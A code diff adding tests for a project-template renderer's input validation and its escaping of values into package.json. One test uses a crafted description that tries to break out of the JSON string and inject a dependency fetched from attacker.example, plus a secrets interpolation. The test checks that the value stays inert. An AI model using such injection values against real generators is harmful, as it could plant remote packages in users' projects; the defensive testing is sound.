@@ -75,6 +75,7 @@ describe('yarn template:render', () => {
       /invalid values: .*awsAccountId does not match pattern/,
     ],
     [{ voteOptions: ['up', 'up'] }, /voteOptions must not repeat an option/],
+    [{ namespace: 'kube-system' }, /invalid values: .*namespace/],
   ])(
     'exits 1 naming the field and the rule for %j, and writes nothing',
     (bad, message) => {
@@ -82,6 +83,39 @@ describe('yarn template:render', () => {
       expect(result.status).toBe(1);
       expect(result.stderr).toMatch(message);
       expect(fs.existsSync(result.output)).toBe(false);
+    },
+    120_000,
+  );
+
+  it('takes every value as data: a description with quotes and JSON stays a string of package.json', () => {
+    const description =
+      'Votes "on lunch"", "dependencies": {"evil": "https://attacker.example/x.tgz"}, "x": "${{ secrets }}';
+    const result = render({ description });
+    expect(result.stderr).toBe('');
+    expect(result.status).toBe(0);
+    const pkg = JSON.parse(
+      fs.readFileSync(path.join(result.output, 'package.json'), 'utf8'),
+    );
+    expect(pkg.description).toBe(description);
+    expect(Object.keys(pkg.dependencies)).toEqual(['@aws-sdk/client-dynamodb']);
+  }, 120_000);
+
+  it.each([
+    ['terraform', 'pod-identity'],
+    ['cdk', 'irsa'],
+    ['cdk', 'pod-identity'],
+    ['ack', 'irsa'],
+    ['ack', 'pod-identity'],
+  ])(
+    'renders %s with %s, every generated JSON, YAML, HCL and TypeScript file parsing',
+    (iac, credentials) => {
+      // template:render itself refuses output whose files do not parse.
+      const result = render({ iac, credentials });
+      expect(result.stderr).not.toMatch(/do not parse/);
+      expect(result.status).toBe(0);
+      expect(fs.existsSync(path.join(result.output, `infra/${iac}`))).toBe(
+        true,
+      );
     },
     120_000,
   );
